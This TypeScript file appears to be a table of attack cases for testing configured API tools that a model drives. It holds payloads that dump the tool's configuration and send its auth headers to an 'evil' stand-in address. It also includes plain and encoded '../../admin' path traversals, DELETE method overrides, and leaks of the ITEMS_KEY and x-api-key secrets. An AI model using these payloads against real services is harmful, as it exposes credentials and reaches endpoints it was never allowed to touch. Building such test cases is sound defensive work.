import { execFileSync } from "node:child_process";
import type { AttackTable, Tool } from "../attack.ts";

/** Calls the tool for what the model says is the item, with more than a model should say. */
const call = async ({ configured: { config, fetch }, tell }: Tool, id: string, init: RequestInit = {}) =>
  tell(await fetch(config.url.replace("{id}", id), { headers: config.headers, ...init }));

const elsewhere = { isOutside: ({ path }: { path: string }) => !/^\/v1\/items\/[\w?=&]*$/.test(path) };

/** A tool that was made of a configuration file. */
export const configuredTools: AttackTable = [
  ["its configuration is shown", ({ configured, say }) => say(JSON.stringify(configured.config))],
  ["its configuration is traced", ({ configured, trace }) => trace(configured)],
  [
    "its headers are sent to another address",
    async ({ configured: { config, fetch }, evil, tell }) => tell(await fetch(evil(), { headers: config.headers })),
  ],
  ["an item that leads to another path", (tool) => call(tool, "../../admin"), elsewhere],
  ["an item that leads to another path behind an escape", (tool) => call(tool, "..%2f..%2fadmin"), elsewhere],
  ["an item that leads to another path behind two", (tool) => call(tool, "%252e%252e/admin"), elsewhere],
  ["another method", (tool) => call(tool, "7", { method: "DELETE" }), { isOutside: ({ method }) => method !== "GET" }],
  [
    "another method by a header",
    (tool) => call(tool, "7", { headers: { ...tool.configured.config.headers, "x-http-method-override": "DELETE" } }),
    { isOutside: ({ headers }) => headers["x-http-method-override"] !== undefined },
  ],
  [
    "its variables are handed to a program",
    ({ configured: { config }, say }) => {
      const env = config.env as Record<string, string>;
      say(execFileSync(process.execPath, ["-p", "process.env.ITEMS_KEY"], { env, encoding: "utf8" }));
    },
  ],
  [
    "an echo of its own host",
    async (tool) => {
      tool.world.api.answer = ({ headers }, response) => response.end(String(headers["x-api-key"]));
      await call(tool, "7");
    },
    { isSent: true },
  ],
];
